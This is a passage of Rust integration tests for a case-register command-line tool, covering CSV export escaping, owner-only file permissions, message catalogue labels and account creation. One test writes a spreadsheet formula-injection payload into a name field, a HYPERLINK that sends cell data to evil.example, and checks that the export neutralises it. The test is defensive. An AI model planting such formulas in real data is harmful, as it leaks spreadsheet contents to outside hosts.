        let case = db.store.case_by_number(number).await.unwrap();
        let victim = db
            .store
            .case_persons(case.id)
            .await
            .unwrap()
            .into_iter()
            .find(|p| matches!(p.involvement, tabara_core::records::Involvement::Victim(_)))
            .unwrap();
        let actor = Actor::system("test");
        let (mut identity, version) = db
            .store
            .read_identity(&actor, victim.person.id)
            .await
            .unwrap();
        identity.first_name = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")".into());
        identity.second_name = Some("@SUM(1+1)".into());
        db.store
            .update_identity(&actor, victim.person.id, version, &identity)
            .await
            .unwrap();
        let csv = ok(&tabara(
            &db,
            &["export", "--format", "csv", "--with-identity"],
        ));
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let header = reader.headers().unwrap().clone();
        let first = header.iter().position(|h| h == "prs_FirstName").unwrap();
        let second = header.iter().position(|h| h == "prs_SecondName").unwrap();
        let cells: Vec<(String, String)> = reader
            .records()
            .map(|r| r.unwrap())
            .map(|r| (r[first].to_string(), r[second].to_string()))
            .collect();
        assert!(cells.contains(&(
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")".to_string(),
            "'@SUM(1+1)".to_string()
        )));
        for (a, b) in &cells {
            for cell in [a, b] {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
        // JSON is data for programs, not a spreadsheet: the name as it is.
        let json = ok(&tabara(
            &db,
            &["export", "--format", "json", "--with-identity"],
        ));
        assert!(json.contains("\"=HYPERLINK("), "{}", &json[..200]);
        db.finish().await;
    }
);

#[cfg(unix)]
#[test]
fn a_new_register_file_is_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let dir = std::env::temp_dir().join(format!("tabara-cli-mode-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let db = dir.join("register.db");
    let out = Command::new(env!("CARGO_BIN_EXE_tabara"))
        .arg("--database")
        .arg(&db)
        .args(["demo", "--persons", "20"])
        .env("TABARA_LANG", "en")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut seen = 0;
    for name in ["register.db", "register.db-wal", "register.db-shm"] {
        if let Ok(meta) = std::fs::metadata(dir.join(name)) {
            assert_eq!(meta.permissions().mode() & 0o777, 0o600, "{name}");
            seen += 1;
        }
    }
    assert!(seen >= 1);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Every kind of record the store names in its errors (not found, changed by someone else,
/// already exists) has its label in the catalogue, so no message shows a raw `kind-…` key.
#[test]
fn every_kind_the_store_names_has_a_label() {
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../store/src");
    let catalogue = tabara_i18n::catalogue();
    let mut kinds = std::collections::BTreeSet::new();
    for entry in std::fs::read_dir(&src).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        for marker in [
            "kind: \"",
            "what: \"",
            "check_version(\"",
            "ensure_updated(done, \"",
            "ensure_updated(updated, \"",
        ] {
            for rest in text.split(marker).skip(1) {
                kinds.insert(rest.split('"').next().unwrap().to_string());
            }
        }
    }
    assert!(kinds.contains("screening") && kinds.len() > 8, "{kinds:?}");
    for kind in &kinds {
        let key = format!("kind-{}", kind.replace(' ', "-"));
        assert!(
            catalogue.has(tabara_core::Lang::En, &key),
            "{key} missing from the catalogue"
        );
    }
}

#[cfg(unix)]
store_test!(exports_are_readable_by_their_owner_only, |db| async move {
    use std::os::unix::fs::PermissionsExt;
    ok(&tabara(&db, &["demo", "--persons", "40", "--seed", "5"]));
    let dir = tempfile_dir();
    for (name, identity) in [("facts.csv", false), ("identity.csv", true)] {
        let path = dir.join(name);
        // A file that already exists, world-readable, is narrowed before it is written.
        std::fs::write(&path, "old").unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        let mut args = vec![
            "export",
            "--format",
            "csv",
            "--output",
            path.to_str().unwrap(),
        ];
        if identity {
            args.push("--with-identity");
        }
        ok(&tabara(&db, &args));
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{name}: {mode:o}");
        assert!(
            std::fs::read_to_string(&path)
                .unwrap()
                .starts_with("case_reference")
        );
    }
    let _ = std::fs::remove_dir_all(&dir);
    db.finish().await;
});

fn tempfile_dir() -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("tabara-export-{}", uuid::Uuid::now_v7()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

// ================================================================ issue 10: accounts 2

store_test!(
    a_command_line_account_is_told_it_was_created,
    |db| async move {
        ok(&tabara(&db, &["demo", "--persons", "20"]));
        let add = Command::new(env!("CARGO_BIN_EXE_tabara"))
            .args([
                "--database",
                &db.database_arg(),
                "user",
                "add",
                "--username",
                "admin.second",
                "--display-name",
                "Second Administrator",
                "--role",
                "admin",
                "--organisation",
                "Police Judiciaire",
            ])
            .env("TABARA_LANG", "en")
            .env("TABARA_USER_PASSWORD", "Chosen-by-operator-1")
            .output()
            .unwrap();
        ok(&add);
        // The command line adds a second administrator with no approval to wait for.
        let c = db.store.credentials("admin.second").await.unwrap().unwrap();
        assert!(c.must_change_password && c.one_time_expires_at.is_some());
        let notice = db.store.reset_notice(c.user.id).await.unwrap().unwrap();
        assert!(notice.created && notice.by.is_none());
        // A reset later is told as a reset.
        ok(&tabara(&db, &["user", "reset", "admin.second"]));
        let notice = db.store.reset_notice(c.user.id).await.unwrap().unwrap();
        assert!(!notice.created && notice.by.is_none());
        db.finish().await;
    }
);
